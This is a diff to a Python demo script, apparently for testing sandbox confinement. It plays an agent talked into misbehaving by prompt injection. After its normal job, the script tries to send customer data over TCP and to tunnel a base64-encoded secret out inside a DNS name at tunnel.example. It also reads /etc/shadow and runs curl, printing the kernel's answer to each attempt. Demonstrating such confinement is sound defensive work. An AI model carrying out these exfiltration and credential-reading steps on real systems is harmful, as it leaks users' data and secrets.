@@ -1,9 +1,10 @@
 #!/usr/bin/env python3
 """A demo "agent" that has been talked into misbehaving.
 
-It does its job (asks the internal orders API on 127.0.0.1:8765), then tries
-what a prompt-injected agent would: send the data elsewhere over TCP and UDP,
-read a secret outside its workspace, and start another program. Each attempt
+It does its job (asks the internal orders API, orders.demo.test:8765), then
+tries what a prompt-injected agent would: send the data elsewhere over TCP,
+tunnel it out through DNS names, read a secret outside its workspace, and
+start another program. Each attempt
 prints what the kernel answered.
 """
 import json
@@ -22,7 +23,7 @@ def attempt(what, fn):
 
 
 def api():
-    with urllib.request.urlopen("http://127.0.0.1:8765/orders.json", timeout=5) as r:
+    with urllib.request.urlopen("http://orders.demo.test:8765/orders.json", timeout=5) as r:
         return json.load(r)["orders"][0]
 
 
@@ -32,10 +33,10 @@ def exfil_tcp():
     return "sent"
 
 
-def exfil_udp():
-    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
-    s.sendto(b"c3VwZXIgc2VjcmV0.tunnel.example", ("127.0.0.53", 53))
-    return "sent"
+def exfil_dns():
+    # The data is the name: any resolver that forwards it hands it over.
+    socket.getaddrinfo("c3VwZXIgc2VjcmV0.tunnel.example", 443)
+    return "resolved"
 
 
 def read_secret():
@@ -61,10 +62,10 @@ def spawn_shell():
 
 print("demo agent: doing its job")
 attempt("read the ticket in the workspace", read_workspace)
-attempt("call the orders API (127.0.0.1:8765)", api)
+attempt("call the orders API (orders.demo.test:8765)", api)
 attempt("write a draft to its private tmp", write_scratch)
 print("demo agent: now misbehaving")
 attempt("send customer data to 127.0.0.2:8766", exfil_tcp)
-attempt("tunnel data over DNS to 127.0.0.53:53/udp", exfil_udp)
+attempt("tunnel data out in a DNS name (c3VwZXIgc2VjcmV0.tunnel.example)", exfil_dns)
 attempt("read /etc/shadow", read_secret)
 attempt("run curl", spawn_shell)
